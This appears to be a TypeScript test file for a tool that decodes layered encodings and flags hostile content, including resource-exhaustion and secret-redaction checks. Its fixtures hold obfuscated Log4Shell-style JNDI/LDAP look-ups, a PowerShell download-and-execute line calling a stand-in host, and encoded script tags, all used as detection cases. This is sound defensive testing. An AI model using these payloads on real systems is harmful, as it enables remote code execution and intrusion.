import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { checkCases } from '../testing/check-cases.ts';
import { checkHostileInputs } from '../testing/hostile-inputs.ts';
import { tool } from './index.ts';
import { cases } from './testing/cases.ts';

const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
const listOf = (count: number, item: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => item(at)).join('\n');
/** Base64 that is not a layer: it decodes to neither text nor a known format. */
const digest = (at: number) => createHash('sha256').update(`${at}`).digest('base64');
const harmless = (at: number) => base64(`line ${at} of a harmless list of texts`);

checkCases(tool, cases);
checkHostileInputs(tool, {
  'many digests': listOf(1_400, digest),
  'many digests in many layers': `%41 &amp; \\x41\\x41\\x41 chr(65)\n${listOf(1_400, digest)}`,
  'many texts': listOf(1_000, harmless),
  'deep look-ups': `${'${lower:'.repeat(4_000)}${'x'.repeat(28_000)}${'}'.repeat(4_000)}`,
  'unclosed look-ups': '${'.repeat(32_000),
  'many look-ups': `\${::-x}`.repeat(9_000),
});

test('a look-up by JNDI is found however other look-ups spell it', () => {
  const within = (levels: number, text: string) => '${lower:'.repeat(levels) + text + '}'.repeat(levels);
  const lookup = (letter: string) => `\${${letter}ndi:ldap://198.51.100.7/a}`;
  for (const letter of [
    'j',
    `\${::-j}`,
    `\${env:NONE:-j}`,
    `\${upper:j}`,
    within(11, 'j'),
    within(98, 'j'),
  ]) {
    const { findings, unseen } = tool.analyse(lookup(letter), 0);
    assert.deepEqual(
      { ids: findings.map(({ id }) => id), unseen },
      { ids: ['decode.jndi'], unseen: [] },
      letter,
    );
  }
  const unclosed = tool.analyse(`${'${'.repeat(200)}${lookup(within(11, 'j'))}`, 0);
  assert.deepEqual(
    unclosed.findings.map(({ id }) => id),
    ['decode.jndi'],
  );
  const { findings, unseen } = tool.analyse(lookup(within(150, 'j')), 0);
  assert.deepEqual({ findings, unseen }, { findings: [], unseen: ['Look-ups nested deeper than 100.'] });
  assert.deepEqual(tool.analyse(`a } b $ c \${env:HOME} \${`, 0).findings, []);
});

test('at most five layers are decoded, and the rest is said to be unseen', () => {
  let text = 'the innermost text';
  for (let layer = 0; layer < 7; layer++) text = base64(text);
  const { facts, unseen } = tool.analyse(text, 0);
  assert.equal((facts.layers as readonly unknown[]).length, 5);
  assert.deepEqual(unseen, ['Layers below the 5th.']);
});

test('compressed data becomes at most 8 MiB in all, however it is divided', () => {
  const part = base64(gzipSync(Buffer.alloc(6 * 1024 * 1024, 'a line of text')));
  const before = process.memoryUsage().arrayBuffers;
  const { findings, unseen } = tool.analyse(`data:;base64,${part} data:;base64,${part}`, 0);
  assert.equal(findings.filter(({ id }) => id === 'decode.bomb').length, 2);
  assert.ok(unseen.includes('Compressed data beyond 8 MiB.'));
  assert.ok(process.memoryUsage().arrayBuffers - before < 32 * 1024 * 1024);
});

test('a part is found behind many others', () => {
  const command = base64('IEX (New-Object Net.WebClient).DownloadString("https://a.example/b")');
  for (const others of [listOf(1_200, digest), listOf(30, harmless)]) {
    const { findings, unseen } = tool.analyse(`${others}\n${command}`, 0);
    assert.ok(findings.some(({ id }) => id === 'decode.download-execute'));
    assert.deepEqual(unseen, []);
  }
});

test('what is decoded in place is found, however many parts there are', () => {
  for (const script of ['%3Cscript%3E', '&lt;script&gt;', '\\x3cscript\\x3e\\x3c', '%41 &lt;script&gt;']) {
    const { findings, unseen } = tool.analyse(`${listOf(60, harmless)}\n${script}`, 0);
    assert.ok(
      findings.some(({ id }) => id === 'decode.hidden-script'),
      script,
    );
    assert.deepEqual(unseen, ['More than 40 layers.']);
  }
});

test('at most 2,000 parts are tried, and the rest is said to be unseen', () => {
  const digests = listOf(1_200, digest);
  assert.deepEqual(tool.analyse(digests, 0).unseen, []);
  assert.deepEqual(tool.analyse(`%41\n${digests}`, 0).unseen, ['Encoded parts beyond the first 2,000.']);
});

test('secrets in decoded texts are not shown', () => {
  for (const [text, secret] of [
    ['Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==', 'sesame'],
    [base64('user=loom&password=correcthorse&x=1'), 'correcthorse'],
    [base64('https://loom:correcthorse@example.org/'), 'correcthorse'],
    [base64('-----BEGIN PRIVATE KEY-----\nMIGEAgEAMBAGByqGSM49\n-----END PRIVATE KEY-----'), 'MIGE'],
    [base64('the key is AKIAIOSFODNN7EXAMPLE, as agreed'), 'IOSFODNN7'],
  ] as const) {
    const answer = JSON.stringify(tool.analyse(text, 0));
    assert.match(answer, /decode\.layer/);
    assert.ok(!answer.includes(secret), answer);
  }
});
